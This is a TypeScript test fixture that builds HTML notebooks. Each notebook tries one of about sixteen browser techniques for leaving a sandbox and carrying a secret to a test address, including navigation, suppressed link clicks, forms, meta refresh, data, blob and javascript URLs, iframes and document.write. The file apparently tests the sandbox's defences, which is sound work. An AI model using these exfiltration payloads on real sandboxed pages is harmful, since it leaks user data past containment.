import { notebook, secretAddress, type Target } from './notebook.ts';

/** Defines `make`, which appends an element with these properties. */
const MAKE = `
    const make = (tag, properties) => {
      const made = Object.assign(document.createElement(tag), properties);
      document.body.append(made);
      return made;
    };`;
/** Clicks the link `a` so that no listener of the sandbox sees it. */
const CLICK = `a.addEventListener("click", (event) => event.stopImmediatePropagation());
    a.click();`;

/**
 * Notebooks that each try to carry something away in an address to which they send their own document, or a frame in
 * it.
 */
export function leavingNotebooks({ tcp }: Target): { name: string; html: string }[] {
  const at = secretAddress(tcp);
  const ways = {
    href: `window.location.href = "${at}href";`,
    replace: `window.location.replace("${at}replace");`,
    open: `window.open("${at}self", "_self");`,
    link: `${MAKE}
    const a = make("a", {href: "${at}link"});
    ${CLICK}`,
    form: `${MAKE}
    make("form", {action: "${at}form"}).submit();`,
    refresh: `
    const m = Object.assign(document.createElement("meta"), {httpEquiv: "refresh", content: "0;url=${at}refresh"});
    document.head.append(m);`,
    data: `window.location.href = "data:text/html,<script>new Image().src='${at}data'</scr" + "ipt>";`,
    blob: `window.location.href = URL.createObjectURL(new Blob(["<img src='${at}blob'>"], {type: "text/html"}));`,
    script: `window.location.href = "javascript:'<img src=${at}javascript>'";`,
    download: `${MAKE}
    const a = make("a", {href: "${at}download", download: "x"});
    ${CLICK}`,
    navigation: `navigation.navigate("${at}navigation");`,
    top: `${MAKE}
    make("form", {action: "${at}top", method: "post", target: "_top"}).submit();`,
    iframe: `
    document.body.insertAdjacentHTML(
      "beforeend",
      '<iframe src="${at}iframe"></iframe><object data="${at}object"></object><embed src="${at}embed">'
    );`,
    child: `${MAKE}
    const f = make("iframe", {name: "kid"});
    f.contentWindow.location = "${at}child";
    window.open("${at}named", "kid");`,
    post: `${MAKE}
    make("iframe", {name: "kid"});
    const f = make("form", {action: "${at}post", method: "post", target: "kid"});
    f.innerHTML = "<input name=a value=secret>";
    f.submit();`,
    write: `
    document.open();
    document.write("<img src='${at}write'><script>new RTCPeerConnection()</scr" + "ipt>");
    document.close();`,
  };
  return Object.entries(ways).map(([name, way]) => ({ name, html: notebook(`Leaving by ${name}`, [way]) }));
}
